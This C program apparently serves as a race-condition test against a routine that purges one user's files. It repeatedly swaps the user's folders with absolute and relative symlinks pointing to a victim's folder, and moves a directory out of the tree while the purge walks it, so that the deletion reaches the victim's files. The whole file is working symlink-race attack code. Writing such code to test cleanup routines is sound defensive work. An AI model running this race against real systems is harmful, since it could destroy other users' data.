// Races against the purge of a user's files: swaps folders for links to a victim's, and moves one
// out of the tree while it is walked, as fast as it can. Ends when its standard input ends or says
// something, and prints how many rounds it made.
//
// swap_folders ROOT USER VICTIM
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *user, *victim;
static char victim_a[512], victim_b[512];
// The user's folder and that in it, or -1. It goes through no link itself: it may do nothing to the
// victim's that it could not do without us.
static int root, outer, inner, victims;

static void put(int folder, const char *name) {
    int made = openat(folder, name, O_CREAT | O_WRONLY | O_NOFOLLOW, 0600);
    if (made >= 0) close(made);
}

// Where one swap of two did not find both, it is a link.
static int step(int folder, const char *name) {
    mkdirat(folder, name, 0700);
    int found = openat(folder, name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
    if (found < 0) unlinkat(folder, name, 0);
    return found;
}

// They change places, and back.
static void swap(int folder, const char *one, const char *other) {
    renameat2(folder, one, folder, other, RENAME_EXCHANGE);
    renameat2(folder, one, folder, other, RENAME_EXCHANGE);
}

// Meanwhile the folder above it is the victim's.
static void visit(void) {
    renameat(inner, "b", victims, "guest");
    renameat(victims, "guest", inner, "b");
    int guest = openat(victims, "guest", O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
    if (guest >= 0) {
        unlinkat(guest, "f", 0);
        close(guest);
    }
    unlinkat(victims, "guest", guest >= 0 ? AT_REMOVEDIR : 0);
}

static void attack(void) {
    outer = step(root, user);
    inner = outer < 0 ? -1 : step(outer, "a");
    int last = inner < 0 ? -1 : step(inner, "b");
    if (last >= 0) {
        put(last, "f");
        symlinkat(victim, root, "swapped");
        // Relative, too: from the user's folder to the victim's.
        symlinkat("../../../victim/a", outer, "link");
        symlinkat(victim_b, inner, "link");
        swap(inner, "b", "link");
        swap(outer, "a", "link");
        swap(root, user, "swapped");
        visit();
        close(last);
    }
    if (inner >= 0) close(inner);
    if (outer >= 0) close(outer);
}

int main(int count, char **words) {
    if (count != 4) return 2;
    user = words[2];
    victim = words[3];
    root = open(words[1], O_RDONLY | O_DIRECTORY);
    snprintf(victim_a, sizeof victim_a, "%s/a", victim);
    snprintf(victim_b, sizeof victim_b, "%s/a/b", victim);
    victims = open(victim_a, O_RDONLY | O_DIRECTORY);
    if (root < 0 || victims < 0) return 2;
    struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};
    long rounds = 0;
    for (; rounds % 64 || poll(&input, 1, 0) == 0; rounds++) attack();
    printf("%ld\n", rounds);
    return 0;
}
